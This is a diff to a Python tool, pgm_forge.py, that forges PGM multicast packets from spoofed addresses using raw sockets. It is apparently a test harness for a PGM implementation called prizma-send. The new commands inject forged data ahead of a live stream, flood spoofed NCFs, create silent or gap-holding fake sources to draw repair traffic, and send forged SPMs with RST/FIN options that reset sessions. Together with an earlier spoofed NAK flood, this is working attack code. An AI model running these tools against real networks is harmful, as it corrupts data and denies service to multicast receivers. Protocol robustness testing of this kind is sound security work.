@@ -19,13 +19,38 @@
       Sends NAKs (each: one sqn + OPT_NAK_LIST of 62) for sqns [FIRST, FIRST + COUNT) to the
       publisher's unicast port, from HOSTS spoofed addresses 10.77.0.100.. (raw socket), each
       host asking for its own share, REPEAT times. Prints how many NAKs and sqns went out.
+  pgm_forge.py conflict GROUP PORT IFACE GSI SPORT SPOOF_IP AHEAD
+      Listens to the group (IFACE: the attacker's address) for an ODATA of that TSI and at
+      once sends, from SPOOF_IP (raw socket), an ODATA AHEAD sqns further on: the index that
+      sqn's message will carry (64-bit little-endian, as prizma-send writes it) and other
+      filler bytes. Then waits for the source's own copy of that sqn and prints both.
+  pgm_forge.py ncf-flood GROUP PORT GSI SPORT DPORT NLA SRC_IP SQN RATE SECONDS
+      NCFs of that TSI from SRC_IP to the group, one a millisecond for SECONDS, each for the
+      sqns just ahead of where a stream at RATE sqns/s from SQN now is. Prints how many.
+  pgm_forge.py silent-source GROUP PORT DPORT IFACE BASE SECONDS
+      A new TSI (random GSI and port) sends ODATA BASE and BASE + 1000 from IFACE, again
+      after SECONDS / 2, and never an SPM. Counts the SPMRs for it heard in SECONDS: unicast
+      (to IFACE:PORT, where a receiver sends them) and on the group.
+  pgm_forge.py gap-sources GROUP PORT DPORT COUNT BASE GAP ROUNDS INTERVAL
+      COUNT new TSIs from spoofed addresses 10.77.0.120.. (raw socket), each sending ODATA BASE
+      and BASE + GAP (a gap held open: no SPM, so no NAK), ROUNDS times INTERVAL s apart.
+  pgm_forge.py spm-options GROUP PORT IFACE GSI SPORT SPOOF_IP PAUSE OPTIONS
+      Listens for an SPM and the newest ODATA of that TSI, then sends from SPOOF_IP one SPM
+      per OPTIONS word (RST, FIN: comma-separated, in that order), PAUSE s apart, each with
+      the next SPM sqn, the live trail and the newest sqn heard as its lead.
+Every packet this file forges is checked before it leaves: the RFC 1071 sum over the whole
+PGM packet, checksum included, must be 0xffff (an independent check of pgm_checksum()).
 """
+import os
+import random
+import select
 import socket
 import struct
 import sys
+import time
 
-ODATA, SPM, NAK = 0x04, 0x00, 0x08
-OPT_LENGTH, OPT_NAK_LIST, OPT_END = 0x00, 0x02, 0x80
+ODATA, SPM, NAK, NCF, SPMR = 0x04, 0x00, 0x08, 0x0A, 0x0C
+OPT_LENGTH, OPT_NAK_LIST, OPT_FIN, OPT_RST, OPT_END = 0x00, 0x02, 0x0E, 0x0F, 0x80
 MASK = 0xFFFFFFFF
 
 
@@ -45,8 +70,16 @@ def pgm_checksum(pkt: bytes) -> int:
     return c if c != 0 else 0xFFFF
 
 
+def checksum_ok(pkt: bytes) -> bool:
+    """RFC 1071 verification: the sum over the packet with its checksum is all ones."""
+    return csum16(pkt) == 0xFFFF
+
+
 def with_checksum(pkt: bytes) -> bytes:
-    return pkt[:6] + struct.pack("!H", pgm_checksum(pkt)) + pkt[8:]
+    out = pkt[:6] + struct.pack("!H", pgm_checksum(pkt)) + pkt[8:]
+    if not checksum_ok(out):
+        sys.exit("forged packet of type %#x fails its own checksum" % pkt[4])
+    return out
 
 
 def header(sport, dport, ptype, options, gsi: bytes, tsdu_len) -> bytes:
@@ -62,13 +95,19 @@ def odata(sport, dport, gsi, sqn, trail, payload: bytes) -> bytes:
     return with_checksum(p + struct.pack("!II", sqn & MASK, trail & MASK) + payload)
 
 
-def spm(sport, dport, gsi, spm_sqn, trail, lead, path_nla: str) -> bytes:
-    p = header(sport, dport, SPM, 0, gsi, 0)
-    return with_checksum(p + struct.pack("!III", spm_sqn & MASK, trail & MASK, lead & MASK) + nla(path_nla))
+def spm(sport, dport, gsi, spm_sqn, trail, lead, path_nla: str, option=None) -> bytes:
+    """An SPM; `option` (OPT_FIN, OPT_RST) adds OPT_LENGTH and that option."""
+    opts = b""
+    if option is not None:
+        opts = struct.pack("!BBHBBBB", OPT_LENGTH, 4, 8, option | OPT_END, 4, 0, 0)
+    p = header(sport, dport, SPM, 0 if option is None else 0x01, gsi, 0)
+    body = struct.pack("!III", spm_sqn & MASK, trail & MASK, lead & MASK) + nla(path_nla)
+    return with_checksum(p + body + opts)
 
 
-def nak(sport, dport, gsi, sqns, source_nla: str, group: str) -> bytes:
-    """A NAK for sqns[0] with OPT_NAK_LIST for the rest (upstream: ports swapped by the caller)."""
+def nak(sport, dport, gsi, sqns, source_nla: str, group: str, ptype=NAK) -> bytes:
+    """A NAK (or NCF: ptype) for sqns[0] with OPT_NAK_LIST for the rest (a NAK is upstream:
+    ports swapped by the caller)."""
     opts = b""
     flags = 0
     if len(sqns) > 1:
@@ -76,7 +115,7 @@ def nak(sport, dport, gsi, sqns, source_nla: str, group: str) -> bytes:
         lst += b"".join(struct.pack("!I", s & MASK) for s in sqns[1:])
         opts = struct.pack("!BBH", OPT_LENGTH, 4, 4 + len(lst)) + lst
         flags = 0x01 | 0x02  # options present, network-significant (as OpenPGM)
-    p = header(sport, dport, NAK, flags, gsi, 0)
+    p = header(sport, dport, ptype, flags, gsi, 0)
     return with_checksum(p + struct.pack("!I", sqns[0] & MASK) + nla(source_nla) + nla(group) + opts)
 
 
@@ -206,9 +245,183 @@ def naks(to_ip, port, gsi_hex, sport, dport, source_nla, group, first, count, ho
     print("naks=%d sqns=%d hosts=%d" % (sent, sqns, hosts))
 
 
+def group_socket(group, port, iface):
+    """A UDP socket hearing the group's datagrams on IFACE (PGM over UDP)."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((group, int(port)))
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
+                 socket.inet_aton(group) + socket.inet_aton(iface))
+    return s
+
+
+def data_fields(pgm):
+    """(sqn, trail, payload) of an ODATA/RDATA, options skipped."""
+    sqn, trail = struct.unpack("!II", pgm[16:24])
+    off = 24
+    if pgm[5] & 0x01:
+        off += struct.unpack("!H", pgm[off + 2:off + 4])[0]
+    return sqn, trail, pgm[off:]
+
+
+def heard(sock, seconds):
+    """Yields (sender, PGM packet) heard within `seconds`; a bad checksum ends the program."""
+    end = time.monotonic() + seconds
+    while True:
+        left = end - time.monotonic()
+        if left <= 0:
+            return
+        r, _, _ = select.select([sock], [], [], left)
+        if not r:
+            return
+        pgm, sender = sock.recvfrom(65535)
+        if len(pgm) < 16:
+            continue
+        if not checksum_ok(pgm):
+            sys.exit("heard a packet of type %#x with a bad checksum" % pgm[4])
+        yield sender, pgm
+
+
+def of_tsi(pgm, gsi, sport):
+    return pgm[8:14] == gsi and struct.unpack("!H", pgm[:2])[0] == sport
+
+
+def send_spoofed(s, src_ip, group, udp_sport, port, pkt):
+    s.sendto(ipv4_udp(src_ip, group, udp_sport, port, pkt), (group, 0))
+
+
+def conflict(group, port, iface, gsi_hex, sport, spoof_ip, ahead):
+    gsi, sport, port, ahead = bytes.fromhex(gsi_hex), int(sport), int(port), int(ahead)
+    sock, raw = group_socket(group, port, iface), raw_socket()
+    fake = target = None
+    for sender, pgm in heard(sock, 5):
+        if pgm[4] != ODATA or not of_tsi(pgm, gsi, sport):
+            continue
+        s, trail, payload = data_fields(pgm)
+        if fake is None and len(payload) >= 8:
+            idx = struct.unpack("<Q", payload[:8])[0]
+            target = (s + ahead) & MASK
+            body = struct.pack("<Q", idx + ahead) + b"\xee" * (len(payload) - 8)
+            fake = odata(sport, struct.unpack("!H", pgm[2:4])[0], gsi, target, trail, body)
+            send_spoofed(raw, spoof_ip, group, sender[1], port, fake)
+            t0 = time.monotonic()
+            print("conflict: heard sqn=%d index=%d; sent sqn=%d index=%d from %s"
+                  % (s, idx, target, idx + ahead, spoof_ip))
+        elif fake is not None and s == target and pgm != fake:
+            print("conflict: the source's own sqn=%d (index %d) came %.1f ms after the forgery"
+                  % (s, struct.unpack("<Q", payload[:8])[0], (time.monotonic() - t0) * 1e3))
+            return
+    sys.exit("conflict: " + ("no ODATA heard" if fake is None else "the source's copy never came"))
+
+
+def ncf_flood(group, port, gsi_hex, sport, dport, source_nla, src_ip, sqn, rate, seconds):
+    gsi, port, sport, dport = bytes.fromhex(gsi_hex), int(port), int(sport), int(dport)
+    sqn, rate, seconds = int(sqn), float(rate), float(seconds)
+    raw = raw_socket()
+    start = time.monotonic()
+    sent = 0
+    while True:
+        now = time.monotonic()
+        if now - start >= seconds:
+            break
+        at = sqn + int((now - start) * rate) + 4  # just ahead of the live stream
+        p = nak(sport, dport, gsi, list(range(at, at + 4)), source_nla, group, ptype=NCF)
+        send_spoofed(raw, src_ip, group, 41500, port, p)
+        sent += 1
+        time.sleep(max(0.0, start + sent * 0.001 - time.monotonic()))
+    print("ncfs=%d from %s in %.1f s" % (sent, src_ip, time.monotonic() - start))
+
+
+def silent_source(group, port, dport, iface, base, seconds):
+    port, dport, base, seconds = int(port), int(dport), int(base), float(seconds)
+    gsi, sport = os.urandom(6), random.randint(1024, 65535)
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    u.bind((iface, port))  # unicast SPMRs go to the sender's address at the channel's port
+    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface))
+    u.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
+    m = group_socket(group, port, iface)
+    pkts = [odata(sport, dport, gsi, base + k, base, b"\xee" * 200) for k in (0, 1000)]
+    counts = {"unicast": 0, "group": 0}
+    for _ in range(2):
+        for p in pkts:
+            u.sendto(p, (group, port))
+        end = time.monotonic() + seconds / 2
+        while True:
+            left = end - time.monotonic()
+            if left <= 0:
+                break
+            for sock in select.select([u, m], [], [], left)[0]:
+                pgm = sock.recv(65535)
+                # An SPMR (upstream): PGM source port = data port, destination = the TSI's.
+                if (len(pgm) >= 16 and pgm[4] == SPMR and pgm[8:14] == gsi
+                        and struct.unpack("!H", pgm[2:4])[0] == sport):
+                    if not checksum_ok(pgm):
+                        sys.exit("silent-source: an SPMR with a bad checksum")
+                    counts["unicast" if sock is u else "group"] += 1
+    print("silent source gsi=%s sport=%d from %s: spmr_unicast=%d spmr_group=%d"
+          % (gsi.hex(), sport, iface, counts["unicast"], counts["group"]))
+
+def gap_sources(group, port, dport, count, base, gap, rounds, interval):
+    port, dport, count, base, gap = int(port), int(dport), int(count), int(base), int(gap)
+    rounds, interval = int(rounds), float(interval)
+    raw = raw_socket()
+    tsis = [(os.urandom(6), random.randint(1024, 65535)) for _ in range(count)]
+    sent = 0
+    for r in range(rounds):
+        for i, (gsi, sport) in enumerate(tsis):
+            for k in (0, gap):
+                p = odata(sport, dport, gsi, base + k, base, b"\xee" * 1000)
+                send_spoofed(raw, "10.77.0.%d" % (120 + i), group, 43000 + i, port, p)
+                sent += 1
+        if r + 1 < rounds:
+            time.sleep(interval)
+    print("gap sources=%d rounds=%d odata=%d" % (count, rounds, sent))
+
+
+def spm_options(group, port, iface, gsi_hex, sport, spoof_ip, pause, options):
+    gsi, sport, port, pause = bytes.fromhex(gsi_hex), int(sport), int(port), float(pause)
+    sock, raw = group_socket(group, port, iface), raw_socket()
+    spm_sqn = spm_nla = spm_port = newest = None
+    forged = set()
+
+    def listen(seconds):
+        """Until an ODATA after the latest SPM (the source's own, not ours) has been heard."""
+        nonlocal spm_sqn, spm_nla, spm_port, newest
+        newest = None
+        for sender, pgm in heard(sock, seconds):
+            if not of_tsi(pgm, gsi, sport) or pgm in forged:
+                continue
+            if pgm[4] == SPM:
+                s = struct.unpack("!I", pgm[16:20])[0]
+                if spm_sqn is None or serial_after(s, spm_sqn):
+                    spm_sqn, spm_nla, spm_port = s, socket.inet_ntoa(pgm[32:36]), sender[1]
+                newest = None
+            elif pgm[4] == ODATA and spm_sqn is not None:
+                s, trail, _ = data_fields(pgm)
+                newest = (s, trail, struct.unpack("!H", pgm[2:4])[0])
+                return
+        sys.exit("spm-options: no SPM and ODATA of the TSI heard")
+
+    listen(3)
+    for k, name in enumerate(options.split(",")):
+        option = {"RST": OPT_RST, "FIN": OPT_FIN}[name]
+        if k:
+            time.sleep(pause)
+            listen(2)
+        spm_sqn = (spm_sqn + 1) & MASK  # newer than the source's last (ours count too)
+        p = spm(sport, newest[2], gsi, spm_sqn, newest[1], newest[0], spm_nla, option)
+        forged.add(p)
+        send_spoofed(raw, spoof_ip, group, spm_port, port, p)
+        print("spm-options: SPM sqn=%d with OPT_%s (trail %d, lead %d) from %s"
+              % (spm_sqn, name, newest[1], newest[0], spoof_ip))
+
 def main(argv):
     cmds = {"learn": (learn, 1), "downstream": (downstream, 11),
-            "send-downstream": (send_downstream, 2), "naks": (naks, 11)}
+            "send-downstream": (send_downstream, 2), "naks": (naks, 11),
+            "conflict": (conflict, 7), "ncf-flood": (ncf_flood, 10),
+            "silent-source": (silent_source, 6), "gap-sources": (gap_sources, 8),
+            "spm-options": (spm_options, 8)}
     if len(argv) < 2 or argv[1] not in cmds or len(argv) - 2 != cmds[argv[1]][1]:
         sys.exit(__doc__)
     cmds[argv[1]][0](*argv[2:])
